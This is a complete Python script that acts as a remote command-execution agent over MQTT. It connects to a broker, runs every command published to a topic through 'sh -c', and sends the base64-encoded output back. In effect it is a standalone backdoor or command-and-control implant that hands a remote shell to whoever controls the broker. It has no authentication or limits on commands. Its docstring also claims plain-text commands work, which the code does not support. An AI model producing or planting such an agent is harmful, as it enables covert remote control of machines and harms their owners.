#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""mqtt_agent.py ADDRESS PORT TOPIC: runs what comes by TOPIC/cmd, plain, in JSON or in base64, and publishes JSON with its output in base64
to TOPIC/result, on one connection (MQTT 3.1.1). Standard library alone."""
import base64
import json
import socket
import subprocess
import sys


def field(text):
    data = text.encode()
    return len(data).to_bytes(2, "big") + data


def packet(first, body):
    size, head = len(body), bytes([first])
    while size > 0x7F:
        head, size = head + bytes([size & 0x7F | 0x80]), size >> 7
    return head + bytes([size]) + body


def read_packet(stream):
    first, size, shift = stream.read(1)[0], 0, 0
    while True:
        byte = stream.read(1)[0]
        size |= (byte & 0x7F) << shift
        shift += 7
        if not byte & 0x80:
            return first, stream.read(size)


def command_of(payload):
    text = payload.decode()
    return json.loads(text)["cmd"] if text.startswith("{") else base64.b64decode(text).decode()


def main():
    if len(sys.argv) != 4:
        sys.exit(__doc__)
    topic = sys.argv[3]
    link = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)
    stream = link.makefile("rb")
    link.settimeout(60)
    link.sendall(packet(0x10, field("MQTT") + b"\4\2\0\x3c" + field("7f3a9c")))
    link.sendall(packet(0x82, b"\0\1" + field(topic + "/cmd") + b"\0"))
    while True:
        first, body = read_packet(stream)
        if first >> 4 != 3:
            continue
        line = command_of(body[2 + int.from_bytes(body[:2], "big"):])
        done = subprocess.run(["sh", "-c", line], capture_output=True, timeout=5, check=False)
        answer = json.dumps({"id": 7, "result": base64.b64encode(done.stdout + done.stderr).decode()})
        link.sendall(packet(0x30, field(topic + "/result") + answer.encode()))


if __name__ == "__main__":
    main()
